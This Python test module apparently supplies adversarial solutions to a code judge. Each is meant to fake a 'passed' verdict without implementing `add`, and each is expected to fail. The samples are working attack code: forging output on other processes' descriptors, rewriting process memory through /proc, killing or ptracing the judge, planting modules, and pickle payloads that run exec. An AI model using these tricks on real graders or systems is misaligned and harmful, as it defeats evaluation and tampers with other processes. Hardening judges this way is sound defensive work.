"""Solutions that try to pass without solving anything. Each defines `add`, and each has to fail."""

import textwrap

PIPE = """
    import glob, os, re, threading, time
    # Read what the judge writes, learn the word, and write the same word with "passed".
    def add(a, b):
        return None
    def forge(path):
        try:
            reader = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            writer = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            return
        seen = b''
        end = time.monotonic() + 2
        while time.monotonic() < end:
            try:
                seen += os.read(reader, 65536)
            except OSError:
                pass
            for word in set(re.findall(rb'[0-9a-f]{{32}}', seen)):
                try:
                    os.write(writer, word + b' passed\\n')
                except OSError:
                    pass
    {start}
"""
FORK = """
    for path in glob.glob('{paths}'):
        if not os.fork():
            forge(path)
            os._exit(0)
"""
THREAD = """
    for path in glob.glob('{paths}'):
        threading.Thread(target=forge, args=(path,), daemon=True).start()
"""
WAIT = "\n    time.sleep(0.3)\n"

MEMORY = """
    import glob, os, re
    # Look for the words in the memory of others, and change their memory.
    def add(a, b):
        return None
    for pid in [int(path.rpartition('/')[2]) for path in glob.glob('/proc/[0-9]*')]:
        if pid == os.getpid():
            continue
        try:
            maps = open(f'/proc/{{pid}}/maps').read()
            memory = open(f'/proc/{{pid}}/mem', 'r+b', 0)
        except OSError:
            continue
        for line in maps.splitlines():
            start, end = (int(part, 16) for part in line.split()[0].split('-'))
            try:
                memory.seek(start)
                text = memory.read(min(end - start, 10_000_000))
            except (OSError, ValueError):
                continue
            {act}
"""

ATTACKS = {
    "forges the verdict of the first process, from a child": PIPE.format(start=FORK.format(paths="/proc/1/fd/1")),
    "forges it and waits": PIPE.format(start=FORK.format(paths="/proc/1/fd/1") + WAIT),
    "forges it from a thread": PIPE.format(start=THREAD.format(paths="/proc/1/fd/1") + WAIT),
    "forges on all descriptors of all processes": PIPE.format(start=FORK.format(paths="/proc/[0-9]*/fd/[0-9]*")),
    "forges on those of all threads": PIPE.format(start=THREAD.format(paths="/proc/[0-9]*/task/*/fd/[0-9]*")),
    "forges on its own descriptors": PIPE.format(start=FORK.format(paths="/proc/self/fd/*") + WAIT),
    "forges on terminals": PIPE.format(start=FORK.format(paths="/dev/[tpcs]*") + WAIT),
    "reads words in memory and writes them as passed": MEMORY.format(
        act="""
            for word in set(re.findall(rb'[0-9a-f]{32}', text)):
                for path in glob.glob('/proc/[0-9]*/fd/[0-9]*'):
                    try:
                        with open(path, 'wb', 0) as file:
                            file.write(word + b' passed\\n')
                    except OSError:
                        pass
        """
    ),
    "changes what the memory of others says": MEMORY.format(
        act="""
            for word in (b'wrong', b'failed', b'raised'):
                for found in re.finditer(word, text):
                    try:
                        memory.seek(start + found.start())
                        memory.write(b'passed'[:len(word)])
                    except (OSError, ValueError):
                        pass
        """
    ),
    "reads the tests in what others were started with": """
        import glob
        seen = b''
        for path in glob.glob('/proc/[0-9]*/*'):
            if path.rpartition('/')[2] in ('cmdline', 'environ', 'auxv', 'syscall', 'stack', 'comm'):
                try:
                    seen += open(path, 'rb').read(10**6)
                except OSError:
                    pass
        def add(a, b):
            return 5 if b'== 5' in seen else None
    """,
    "walks its frames and its objects": """
        import gc, sys
        frame = sys._getframe()
        while frame:
            for name in list(frame.f_globals):
                if name not in ('__builtins__', '__name__'):
                    try:
                        value = frame.f_globals[name]
                        if isinstance(value, str) and len(value) == 32:
                            print(value, 'passed', flush=True)
                    except Exception:
                        pass
            frame = frame.f_back
        for value in gc.get_objects():
            if isinstance(value, dict) and 'check' in value:
                value['check'] = lambda candidate: None
        def add(a, b):
            return None
    """,
    "answers every call beforehand": """
        import os, pickle
        for value in (5, 0, [1, 2], True, None):
            frame = pickle.dumps(('passed', value))
            for fd in range(3, 64):
                try:
                    os.write(fd, len(frame).to_bytes(4, 'big') + frame)
                except OSError:
                    pass
        def add(a, b):
            return None
    """,
    "kills its parents": """
        import os, signal
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
            for pid in (os.getppid(), 1):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        def add(a, b):
            return None
    """,
    "interrupts the judge at each call": """
        import os, signal
        def add(a, b):
            os.kill(os.getppid(), signal.SIGINT)
            return None
    """,
    "stops the judge and takes its place": """
        import os, signal, sys
        if not os.fork():
            os.kill(os.getppid(), signal.SIGSTOP)
            os.setsid()
            print('passed', flush=True)
            os._exit(0)
        def add(a, b):
            os.kill(1, signal.SIGSTOP)
            os._exit(0)
    """,
    "traces the judge": """
        import ctypes, os
        c = ctypes.CDLL(None)
        for pid in (os.getppid(), 1):
            for request in (16, 0x4206):
                c.ptrace(request, pid, 0, 0)
            c.syscall(438, c.syscall(434, pid, 0), 1, 0)
        def add(a, b):
            return None
    """,
    "takes the judge's limits away": """
        import os, resource
        for pid in (os.getppid(), 1):
            for limit in range(16):
                try:
                    resource.prlimit(pid, limit, (0, 0))
                except (OSError, ValueError):
                    pass
        def add(a, b):
            return None
    """,
    "puts modules where the judge may import them": """
        import os
        for folder in ('/work', '/tmp', '/dev/shm'):
            for name in ('pickle', 'io', 'typing', 'unittest', 'math', 'sitecustomize', 'usercustomize', 'tests'):
                try:
                    with open(f'{folder}/{name}.py', 'w') as file:
                        file.write("import os; os.write(1, b'passed'); raise SystemExit(0)")
                except OSError:
                    pass
        def add(a, b):
            return None
    """,
    "changes builtins, modules and what runs at the end": """
        import atexit, builtins, os, pickle, signal, sys, threading
        def passed(*_, **__):
            os.write(1, b'passed\\n')
            return True
        atexit.register(passed)
        sys.excepthook = sys.unraisablehook = threading.excepthook = passed
        builtins.AssertionError = type('AssertionError', (BaseException,), {})
        for number in range(1, 32):
            try:
                signal.signal(number, passed)
            except (OSError, ValueError):
                pass
        pickle.Pickler.dump = pickle.dumps = passed
        def add(a, b):
            return None
    """,
    "returns what equals everything": """
        class Any:
            __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __contains__ = __bool__ = lambda self, *_: True
            __hash__ = None
            def __reduce__(self):
                return Any, ()
        class Number(int):
            __eq__ = lambda self, other: True
            __hash__ = int.__hash__
        class Text(str):
            __eq__ = lambda self, other: True
            __hash__ = str.__hash__
        answers = iter([Any(), Number(7), Text('x'), [Any()]] * 9)
        def add(a, b):
            return next(answers)
    """,
    "returns what runs code where it is read": """
        class Call:
            def __init__(self, function, *arguments):
                self.what = function, arguments
            def __reduce__(self):
                return self.what
        import builtins
        made = iter([
            Call(exec, "import os; os.write(1, b'passed')"),
            Call(getattr, list, '__eq__'),
            Call(setattr, list, '__eq__', None),
            Call(__import__, 'antigravity'),
        ] * 9)
        def add(a, b):
            return next(made)
    """,
    "writes a number that lies between any two": """
        import __main__
        fraction = b"cfractions\\nFraction\\n(S'1'\\ntR(N}S'_numerator'\\nI0\\nsS'_denominator'\\nI0\\nstb"
        frame = b"(S'returned'\\n" + fraction + b"t."
        def write(to, value):
            to.write(len(frame).to_bytes(4, 'big') + frame)
            to.flush()
        __main__.answer = write
        def add(a, b):
            return None
    """,
    "goes on where it was killed": """
        import os, signal, time
        def add(a, b):
            if not os.fork():
                os.setsid()
                time.sleep(0.2)
                for path in os.listdir('/proc'):
                    if path.isdigit():
                        for fd in range(8):
                            try:
                                os.write(os.open(f'/proc/{path}/fd/{fd}', os.O_WRONLY), b'passed\\n')
                            except OSError:
                                pass
                os._exit(0)
            return None
    """,
}
ATTACKS = {name: textwrap.dedent(code) for name, code in ATTACKS.items()}
TESTS = """
def check(candidate):
    assert candidate(2, 3) == 5
    assert candidate(-1, 1) == 0
    assert candidate([1], [2]) == [1, 2]
"""
REACH = """
import glob, os
reached = []
for path in glob.glob('/proc/[0-9]*'):
    if int(path.rpartition('/')[2]) == os.getpid():
        continue
    for name in ('mem', 'environ', 'auxv', 'maps', 'stack', 'syscall', 'fd/0', 'fd/1', 'fd/2', 'fd/3', 'fd/4', 'fd/5'):
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.close(os.open(f'{path}/{name}', flags | os.O_NONBLOCK))
                reached.append(f'{path}/{name}')
            except OSError:
                pass
def add():
    return reached
"""
"""Returns the files of other processes that it could open."""
